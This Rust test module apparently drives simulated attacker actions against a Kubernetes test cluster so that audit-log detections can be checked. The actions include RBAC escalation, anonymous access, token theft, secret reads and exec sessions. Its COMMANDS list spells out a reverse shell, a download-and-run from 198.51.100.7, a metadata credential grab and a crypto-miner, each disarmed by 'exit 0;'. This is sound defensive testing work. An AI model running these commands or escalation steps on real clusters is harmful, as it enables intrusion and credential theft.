//! What shipped detections look for and the walk has no use for: deeds of a cluster-admin and of
//! others, one after the other, each as a real client does it. Commands in containers run on this
//! very machine: they end before what their words say begins.
//!
//! Of these deeds only the findings are looked at, so whoever is refused says so in the audit log
//! alone. [`super::deeds_workload`] and [`super::deeds_control`] have what manifests do.

use serde_json::{Value, json};

use super::apiserver::{Cluster, NODE, SPARE};
use super::attack_steps::{MALLORY, mallory};
use super::drive::ADMIN;
use super::{deeds_control, deeds_workload};

/// The namespace of most deeds.
pub(super) const SHOP: &str = "shop";
/// Beside it.
const SHOPS: [&str; 9] =
    ["shop", "shop-a", "shop-b", "shop-c", "shop-d", "shop-e", "shop-f", "shop-g", "shop-h"];
const ALICE: &str = "Authorization: Bearer token-alice";
/// Mallory's.
pub(super) const MINE: &str = "Authorization: Bearer token-mallory";
const CI: &str = "Authorization: Bearer token-ci";

/// Does all of it, by mallory where nothing else is said, who may do everything by now.
pub(crate) fn act(cluster: &Cluster) {
    let namespaces: Vec<Value> = SHOPS.iter().map(|name| namespace(name)).collect();
    apply(cluster, &namespaces);
    deeds_workload::pods(cluster);
    deeds_control::definitions(cluster);
    denied(cluster);
    roles(cluster);
    strangers(cluster);
    tokens(cluster);
    secrets(cluster);
    sessions(cluster);
    deeds_workload::workloads(cluster);
    deeds_workload::changes(cluster);
    deeds_control::admission(cluster);
    deeds_control::network(cluster);
    deeds_control::cluster(cluster);
    looking_around(cluster);
}

/// `kubectl apply` of all of these by mallory.
pub(super) fn apply(cluster: &Cluster, items: &[Value]) {
    cluster.apply(MALLORY, &json!({ "apiVersion": "v1", "kind": "List", "items": items }));
}

pub(super) fn namespace(name: &str) -> Value {
    json!({ "apiVersion": "v1", "kind": "Namespace", "metadata": { "name": name } })
}

/// An object in [`SHOP`].
pub(super) fn object(version: &str, kind: &str, name: &str, spec: &Value) -> Value {
    json!({
        "apiVersion": version, "kind": kind,
        "metadata": { "name": name, "namespace": SHOP }, "spec": spec,
    })
}

/// What those ask for who may not.
fn denied(cluster: &Cluster) {
    let alice = |arguments: &[&str]| drop(cluster.try_kubectl("alice", arguments));
    for place in ["prod", "kube-system", "shop-a", "shop-b", "shop-c"] {
        alice(&["get", "secrets", "-n", place]);
    }
    alice(&["create", "deployment", "web", "--image=registry.example/web:1", "-n", "prod"]);
    alice(&["create", "clusterrolebinding", "me", "--clusterrole=cluster-admin", "--user=alice"]);
    alice(&["get", "pods", "-n", "dev", "--as=bob"]);
    let session = |number: usize| format!("/api/v1/namespaces/prod/pods/p{number}/exec?command=id");
    cluster.curl(&["--header", ALICE], &(0..6).map(session).collect::<Vec<_>>());
    // Denied three times, then allowed.
    let secrets: Vec<String> = vec!["/api/v1/namespaces/shop-h/secrets".into(); 3];
    assert_eq!(cluster.curl(&["--header", ALICE], &secrets), [403; 3]);
    let grant = ["create", "rolebinding", "alice", "--clusterrole=edit", "--user=alice"];
    mallory(cluster, &[&grant[..], &["-n", "shop-h"]].concat());
    cluster.wait_until_allowed("alice", "list", "secrets", "shop-h");
    assert_eq!(cluster.curl(&["--header", ALICE], &secrets), [200; 3]);
    // One who may write roles, but no more into them than they have.
    let role = ["create", "role", "roles", "--verb=create", "--resource=roles", "-n", SHOP];
    mallory(cluster, &role);
    mallory(cluster, &["create", "rolebinding", "ci", "--role=roles", "--user=ci", "-n", SHOP]);
    cluster.wait_until_allowed("ci", "create", "roles.rbac.authorization.k8s.io", SHOP);
    let more = ["create", "role", "more", "--verb=get", "--resource=secrets", "-n", SHOP];
    assert!(!cluster.try_kubectl("ci", &more).status.success(), "more than ci has");
    // Where ci's own programs are not, a script.
    cluster.curl(&["--interface", "127.0.0.2", "--header", CI], &["/api".into()]);
    // Denied a secret, then given it by a pod.
    let pods = ["create", "role", "pods", "--verb=create,get", "--resource=pods", "-n", "shop-g"];
    mallory(cluster, &pods);
    let bound = ["create", "rolebinding", "pods", "--role=pods", "--user=alice", "-n", "shop-g"];
    mallory(cluster, &bound);
    cluster.wait_until_allowed("alice", "create", "pods", "shop-g");
    alice(&["get", "secret", "key", "-n", "shop-g"]);
    let volume = json!({ "name": "key", "secret": { "secretName": "key" } });
    let mut pod = deeds_workload::pod("key", &json!({ "volumes": [volume] }));
    pod["metadata"]["namespace"] = json!("shop-g");
    cluster.apply("alice", &pod);
    // A kubelet asks for none of these by kubectl.
    for kind in ["pods", "secrets", "configmaps"] {
        cluster.try_kubectl(NODE, &["get", kind, "--all-namespaces"]);
    }
}

const RBAC: &str = "rbac.authorization.k8s.io";

fn role(name: &str, rules: &Value) -> Value {
    json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
        "metadata": { "name": name }, "rules": rules,
    })
}

fn rule(resources: &[&str], verbs: &[&str]) -> Value {
    json!([{ "apiGroups": [""], "resources": resources, "verbs": verbs }])
}

fn roles(cluster: &Cluster) {
    let all = json!([{ "apiGroups": ["*"], "resources": ["*"], "verbs": ["*"] }]);
    let mut gathered = role("readers", &rule(&["secrets"], &["get", "list"]));
    gathered["metadata"]["labels"] =
        json!({ "rbac.authorization.k8s.io/aggregate-to-view": "true" });
    apply(
        cluster,
        &[
            role("everything", &all),
            role("wider", &rule(&["pods"], &["get"])),
            role("sessions", &rule(&["pods/exec"], &["create"])),
            role("kubelets", &rule(&["nodes/proxy"], &["get"])),
            role("secrets", &rule(&["secrets"], &["get", "list"])),
            role("credentials", &rule(&["serviceaccounts/token"], &["create"])),
            role("others", &rule(&["users", "groups"], &["impersonate"])),
            gathered,
        ],
    );
    apply(cluster, &[role("wider", &all)]);
    let more =
        json!([{ "op": "add", "path": "/rules/-", "value": rule(&["secrets"], &["get"])[0] }]);
    let view = ["patch", "clusterrole", "view", "--type=json", "-p", &more.to_string()];
    mallory(cluster, &view);
    let bind = |arguments: &[&str]| mallory(cluster, arguments);
    bind(&["create", "clusterrolebinding", "eve", "--clusterrole=admin", "--user=eve"]);
    let everybody = "--group=system:authenticated";
    bind(&["create", "rolebinding", "all", "--clusterrole=edit", everybody, "-n", "shop-f"]);
    let default = "--serviceaccount=shop:default";
    bind(&["create", "rolebinding", "default", "--clusterrole=edit", default, "-n", SHOP]);
    let masters = ["create", "clusterrolebinding", "kubeadm:cluster-admins"];
    let group = ["--clusterrole=cluster-admin", "--group=kubeadm:cluster-admins"];
    cluster.kubectl(ADMIN, &[&masters[..], &group[..]].concat());
    let many: Vec<Value> = (0..26)
        .map(|number| {
            let mut role = role(&format!("many-{number}"), &rule(&["pods"], &["get"]));
            role["kind"] = json!("Role");
            role["metadata"]["namespace"] = json!("shop-e");
            role
        })
        .collect();
    apply(cluster, &many);
    let one = |number| format!("/apis/{RBAC}/v1/namespaces/shop-e/roles/many-{number}");
    let delete = ["--request", "DELETE", "--header", MINE];
    cluster.curl(&delete, &(0..26).map(one).collect::<Vec<_>>());
    mallory(cluster, &["delete", "clusterrole", "others"]);
    cluster.wait_until_allowed("system:serviceaccount:shop:default", "list", "secrets", SHOP);
}

/// Who shows no credential.
fn strangers(cluster: &Cluster) {
    let open = ["create", "rolebinding", "open", "--clusterrole=edit", "--user=system:anonymous"];
    mallory(cluster, &[&open[..], &["-n", "shop-d"]].concat());
    cluster.wait_until_allowed("system:anonymous", "list", "secrets", "shop-d");
    let paths = ["pods", "secrets"].map(|kind| format!("/api/v1/namespaces/shop-d/{kind}"));
    assert_eq!(cluster.curl(&[], &paths), [200, 200]);
    assert_eq!(post(cluster, &[], "/api/v1/namespaces/shop-d/configmaps", &map("left")), [201]);
}

fn map(name: &str) -> Value {
    json!({ "apiVersion": "v1", "kind": "ConfigMap", "metadata": { "name": name } })
}

fn post(cluster: &Cluster, options: &[&str], path: &str, body: &Value) -> Vec<u16> {
    send(cluster, options, &[path.to_owned()], body)
}

/// The same body to each path.
pub(super) fn send(
    cluster: &Cluster,
    options: &[&str],
    paths: &[String],
    body: &Value,
) -> Vec<u16> {
    let body = body.to_string();
    let json = ["--header", "Content-Type: application/json", "--data", &body];
    cluster.curl(&[&json[..], options].concat(), paths)
}

fn bearer(token: &str) -> String {
    format!("Authorization: Bearer {}", token.trim())
}

fn tokens(cluster: &Cluster) {
    for account in
        ["job-controller", "node-controller", "cronjob-controller", "default", "metrics-sync"]
    {
        mallory(cluster, &["create", "token", account, "-n", "kube-system"]);
    }
    // One that never ends, made before, and used.
    let read = "go-template={{.data.token | base64decode}}";
    let kept = ["get", "secret", "metrics-sync-token", "-n", "kube-system", "-o", read];
    let header = bearer(&mallory(cluster, &kept));
    let role = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
        "metadata": { "name": "stay" }, "rules": [],
    });
    let roles = format!("/apis/{RBAC}/v1/namespaces/{SHOP}/roles");
    post(cluster, &["--header", &header], &roles, &role);
    // A pod's, used by itself, then by a tool at another address.
    let bound = ["--bound-object-kind=Pod", "--bound-object-name=web"];
    let token = ["create", "token", "default", "-n", SHOP];
    let header = bearer(&mallory(cluster, &[&token[..], &bound[..]].concat()));
    let path = [format!("/api/v1/namespaces/{SHOP}/pods")];
    cluster.curl(&["--user-agent", "web/1.0", "--header", &header], &path);
    mallory(cluster, &["exec", "-n", SHOP, "web", "--", "true"]);
    let secrets = [format!("/api/v1/namespaces/{SHOP}/secrets")];
    cluster.curl(&["--interface", "127.0.0.2", "--header", &header], &secrets);
    // Tried out what it may do, by hand.
    let header = bearer(&mallory(cluster, &token));
    let kinds = ["pods", "services", "configmaps", "secrets", "nodes", "namespaces"];
    let more = ["persistentvolumes", "endpoints", "events"];
    let in_shop = |kind: &str| match kind {
        "nodes" | "namespaces" | "persistentvolumes" => format!("/api/v1/{kind}"),
        kind => format!("/api/v1/namespaces/{SHOP}/{kind}"),
    };
    let mut paths: Vec<String> = kinds.into_iter().chain(more).map(in_shop).collect();
    let walked = ["/api", "/apis", "/version", "/openapi/v2", "/apis/apps", "/apis/batch/v1"];
    paths.extend(walked.map(String::from));
    cluster.curl(&["--header", &header], &paths);
    let review = json!({
        "apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectAccessReview",
        "spec": { "resourceAttributes": { "verb": "get", "resource": "secrets" } },
    });
    let reviews = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
    post(cluster, &["--header", &header], reviews, &review);
    mallory(cluster, &["delete", "csr", "metrics-helper"]);
    // Out of the safe.
    cluster.kubectl(SPARE, &["get", "nodes"]);
}

fn secrets(cluster: &Cluster) {
    let read: Vec<String> =
        SHOPS.iter().map(|place| format!("/api/v1/namespaces/{place}/secrets")).collect();
    cluster.curl(&["--header", MINE], &read);
    let secret = |place: &str, name: &str, value: &str| {
        json!({
            "apiVersion": "v1", "kind": "Secret",
            "metadata": { "name": name, "namespace": place }, "stringData": { "value": value },
        })
    };
    let places = |number: usize| ["shop-a", "shop-b", "shop-c"][number % 3];
    let many = (0..31).map(|number| secret(places(number), &format!("key-{number}"), "first"));
    apply(cluster, &many.collect::<Vec<_>>());
    // As those do who encrypt what is there.
    let changed = |number| format!("/api/v1/namespaces/{}/secrets/key-{number}", places(number));
    let merge = "Content-Type: application/merge-patch+json";
    let body = json!({ "stringData": { "value": "x" } }).to_string();
    let patch = ["--request", "PATCH", "--header", merge, "--data", &body, "--header", MINE];
    cluster.curl(&patch, &(0..31).map(changed).collect::<Vec<_>>());
    apply(
        cluster,
        &[
            secret("kube-system", "bootstrap-token-abcdef", "a node may join"),
            secret(SHOP, "sh.helm.release.v1.shop.v1", "a release"),
            json!({
                "apiVersion": "v1", "kind": "ConfigMap",
                "metadata": { "name": "aws-auth", "namespace": "kube-system" },
                "data": { "mapUsers": "- userarn: arn:aws:iam::1:user/eve" },
            }),
        ],
    );
    mallory(cluster, &["get", "secret", "key-0", "-n", "shop-a"]);
    let spec = json!({ "imagePullSecrets": [{ "name": "key-0" }] });
    apply(cluster, &[deeds_workload::pod("pulled", &spec)]);
    let role = "eks.amazonaws.com/role-arn=arn:aws:iam::1:role/all";
    mallory(cluster, &["annotate", "serviceaccount", "default", "-n", SHOP, role]);
}

/// Commands as they are asked for; what runs is `true`.
const COMMANDS: [&str; 8] = [
    "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "curl -o /tmp/x http://198.51.100.7/x; chmod +x /tmp/x; /tmp/x",
    "nsenter -t 1 -m -u -i -n sh",
    "apt-get install -y nmap",
    "/tmp/xmrig --donate-level 1",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "tar cf - /etc",
];

fn sessions(cluster: &Cluster) {
    for command in COMMANDS {
        // The shell ends before what is asked for.
        let words = ["exec", "-n", SHOP, "web", "--", "sh", "-c"];
        cluster.try_kubectl(MALLORY, &[&words[..], &[&format!("exit 0; {command}")]].concat());
    }
    cluster.try_kubectl(MALLORY, &["exec", "-n", SHOP, "web", "--", "tar", "cf", "-", "/dev/null"]);
    for pod in deeds_workload::PODS {
        cluster.try_kubectl(MALLORY, &["exec", "-n", SHOP, pod, "--", "true"]);
    }
    let system =
        "/api/v1/namespaces/kube-system/pods/guest/exec?command=sh&command=-c&command=true";
    upgrade(cluster, MINE, &format!("{system}&stdin=true&stdout=true"));
    let header = bearer(&mallory(cluster, &["create", "token", "default", "-n", SHOP]));
    let pod = format!("/api/v1/namespaces/{SHOP}/pods/web");
    let terminal = "container=web&stdin=true&stdout=true&tty=true";
    upgrade(cluster, &header, &format!("{pod}/exec?command=true&{terminal}"));
    upgrade(cluster, MINE, &format!("{pod}/exec?command=true&{terminal}"));
    upgrade(cluster, MINE, &format!("{pod}/attach?{terminal}"));
    upgrade(cluster, MINE, &format!("{pod}/portforward?ports=80"));
    upgrade(cluster, MINE, "/api/v1/nodes/node1/proxy/exec/shop/web/web?command=true");
    let got = [
        format!("{pod}/proxy/"),
        "/api/v1/nodes/node1/proxy/pods".into(),
        "/api/v1/nodes/node1/proxy/configz".into(),
        "/debug/pprof/".into(),
        "/debug/flags/v".into(),
    ];
    cluster.curl(&["--header", MINE], &got);
    let logs = |pod: &&str| format!("/api/v1/namespaces/kube-system/pods/{pod}/log");
    let of = deeds_workload::SYSTEM_PODS.iter().map(logs);
    cluster.curl(&["--header", MINE], &of.collect::<Vec<_>>());
    mallory(cluster, &["delete", "pod", deeds_workload::PODS[0], "-n", SHOP, "--wait=false"]);
}

/// A session as a browser would begin one: it ends when the command does, or after a moment.
fn upgrade(cluster: &Cluster, header: &str, path: &str) {
    let mut options = vec!["--http1.1", "--max-time", "3", "--header", header];
    for header in [
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Protocol: v5.channel.k8s.io",
    ] {
        options.extend(["--header", header]);
    }
    cluster.curl(&options, &[path.to_owned()]);
}

fn looking_around(cluster: &Cluster) {
    let hunter = ["--user-agent", "kube-hunter/0.6", "--header", MINE];
    cluster.curl(&hunter, &["/api".into()]);
    let guessed = |number: usize| format!("/api/v1/namespaces/{SHOP}/configmaps/app-{number}");
    cluster.curl(&["--header", MINE], &(0..14).map(guessed).collect::<Vec<_>>());
    cluster.curl(&["--header", MINE], &vec!["/api/v1/nodes".to_owned(); 61]);
    let kinds = ["secrets", "nodes", "serviceaccounts", "services", "configmaps", "namespaces"];
    let mut lists: Vec<String> = kinds.iter().map(|kind| format!("/api/v1/{kind}")).collect();
    lists.extend([format!("/apis/{RBAC}/v1/clusterroles"), format!("/apis/{RBAC}/v1/roles")]);
    cluster.curl(&["--header", MINE], &lists);
}
